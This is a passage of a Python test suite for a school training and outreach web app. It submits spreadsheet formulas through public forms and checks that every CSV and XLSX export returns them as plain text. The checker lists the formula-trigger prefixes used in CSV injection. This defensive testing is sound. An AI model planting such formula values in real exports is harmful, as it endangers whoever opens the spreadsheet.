        return [(cell, cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not re.fullmatch(r"[+-]?\d+([.,]\d+)?",
                                                                                              cell))
                for row in rows for cell in row]
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(response.data))
    return [(str(cell.value), cell.data_type == "f") for sheet in book.worksheets for row in sheet.iter_rows()
            for cell in row if cell.value is not None]


def spreadsheet_routes(app):
    """(key, rule, formats) of every GET route of the URL map that answers CSV or XLSX."""
    for key, rule in sorted(routes(app).items()):
        if not key.startswith("GET "):
            continue
        converter = rule._converters.get("fmt")
        formats = set(getattr(converter, "items", ())) or {rule.rule.rsplit(".", 1)[-1]}
        if formats & {"csv", "xlsx"}:
            yield key, rule, sorted(formats & {"csv", "xlsx"})


def test_every_spreadsheet_download_is_inert(site):
    """Formulas typed into the public registration, an outreach activity and a school's name come out of every
    CSV and XLSX route of the URL map as text: no CSV cell starts a formula, no XLSX cell is one."""
    from models.training import Registration
    from services.tallies import RECORD_KINDS

    site.reset()
    records = site.records("school")
    event, school = site.shared_event, records.school
    anonymous, admin, curator = site.client("anonymous"), site.client("admin"), site.client("school")
    registered = anonymous.post(f"/e/{event.slug}", data={
        "client_uuid": str(uuid.uuid4()), "full_name": FORMULAS["name"], "position": "curator",
        "district": str(school.district_id), "school": str(school.id), "phone": "+77017770707", "consent": "y"})
    assert registered.status_code == 302, registered.get_data(as_text=True)[:300]
    hostile = Registration.get(Registration.phone == "+77017770707")
    day = event.ordered_days()[0]
    assert admin.post(f"/training/{event.id}/days/{day.id}/present/{hostile.id}").status_code == 302
    activity = curator.post("/outreach/new", data={
        "client_uuid": str(uuid.uuid4()), "held_on": records.today.isoformat(), "format": "general_meeting",
        "grade_from": "1", "grade_to": "4", "language": "kk", "parents_reached": "12",
        "description": FORMULAS["outreach"]})
    assert activity.status_code == 302, activity.get_data(as_text=True)[:300]
    edit = site.client("admin").post(f"/schools/{school.id}/edit", data={
        "district": str(school.district_id), "code": school.code, "name_kk": FORMULAS["school"],
        "name_ru": FORMULAS["school"], "bin": ""})
    assert edit.status_code == 302, edit.get_data(as_text=True)[:300]

    overrides = {"registration_id": hostile.id, "event_id": event.id}
    checked, seen, problems = 0, set(), []
    for key, rule, formats in spreadsheet_routes(site.app):
        kinds = sorted(RECORD_KINDS) if "kind" in rule.arguments else [None]
        answers = expected(key)["school"] if key in MATRIX else ["200"] * len(ROLES)
        for role, answer in zip(ROLES, answers, strict=True):
            if answer != "200":
                continue
            for fmt in formats:
                for kind in kinds:
                    values = {name: overrides[name] if name in overrides else param(rule.endpoint, name)[1](records)
                              for name in rule.arguments}
                    values.update(fmt=fmt, **({"kind": kind} if kind else {}))
                    url = rule.build({k: v for k, v in values.items() if k in rule.arguments},
                                     append_unknown=False)[1]
                    response = site.client(role).get(url)
                    if response.status_code != 200:
                        continue  # a kind this installation does not offer
                    checked += 1
                    for text, formula in spreadsheet_cells(response, fmt):
                        seen.update(name for name, value in FORMULAS.items() if value in text)
                        if formula:
                            problems.append(f"{url} as {role}: a live formula {text[:60]!r}")
    assert not problems, "\n".join(problems[:20])
    assert checked >= 10 and seen == set(FORMULAS), (checked, seen)
